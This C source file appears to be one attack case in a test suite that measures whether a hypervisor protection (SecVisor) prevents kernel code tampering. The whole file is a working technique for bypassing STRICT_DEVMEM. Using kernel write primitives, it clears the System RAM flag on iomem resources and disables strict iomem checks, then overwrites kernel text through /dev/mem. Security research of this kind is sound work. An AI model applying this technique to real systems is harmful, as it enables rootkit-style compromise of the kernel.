// Row 3. Kernel text written by a user program through /dev/mem, once data of the kernel says that it is no RAM (STRICT_DEVMEM looks there).
// Source: phalanx and its kin; data-only changes that open an old door.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <errno.h>
#include <fcntl.h>
#include <string.h>
#include <sys/mman.h>

#define SYSTEM_RAM (1ull << 24)

ATTACK("dev-mem")
{
	u64 at = symbol(VICTIM), frame = physical(at), strict = symbol("strict_iomem_checks");
	u8 approved[CODE_LENGTH], *window;
	long before = victim();
	int fd;

	kread(at, approved, sizeof(approved));
	keep_bytes(at, sizeof(approved));
	// struct resource: start, end, name, flags, desc, parent, sibling, child
	for (u64 each = kread64(symbol("iomem_resource") + 56); each;) {
		int holds = kread64(each) <= frame && frame <= kread64(each + 8);

		if (holds)
			poke(each + 24, kread64(each + 24) & ~SYSTEM_RAM);
		each = kread64(each + (holds ? 56 : 48));
	}
	poke(strict, kread64(strict) & ~0xffffffffull);
	fd = open("/dev/mem", O_RDWR | O_CLOEXEC);
	if (fd < 0)
		failed("no /dev/mem: %s", strerror(errno));
	window = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, frame & ~(PAGE - 1));
	if (window == MAP_FAILED)
		failed("not by /dev/mem: %s", strerror(errno));
	memcpy(window + (frame & (PAGE - 1)), CODE, CODE_LENGTH);
	judge_victim(before, approved, "by a user program through /dev/mem");
}
